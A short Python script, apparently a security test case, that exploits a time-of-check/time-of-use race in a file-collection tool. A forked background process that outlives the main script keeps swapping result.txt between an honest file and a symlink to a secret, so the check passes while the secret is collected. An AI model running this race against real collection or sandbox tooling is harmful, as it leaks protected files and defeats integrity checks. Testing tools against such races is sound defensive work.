# goal: be an honest file when the tool looks and a link when it reads: a process left behind swaps them
# success: collects TOKEN
# held_by: always:collecting
# collect: result.txt
import json
import os
import time

secret = json.load(open("target.json"))["secret_file"]
with open("honest", "w") as file:
    file.write("42\n")
os.link("honest", "result.txt")
if os.fork() == 0:
    for descriptor in (0, 1, 2):
        os.close(descriptor)
    until = time.monotonic() + 3
    while time.monotonic() < until:
        try:
            os.symlink(secret, "link")
            os.rename("link", "result.txt")
            time.sleep(0.05)
            os.link("honest", "other")
            os.rename("other", "result.txt")
        except OSError:
            break
    os._exit(0)
time.sleep(0.02)
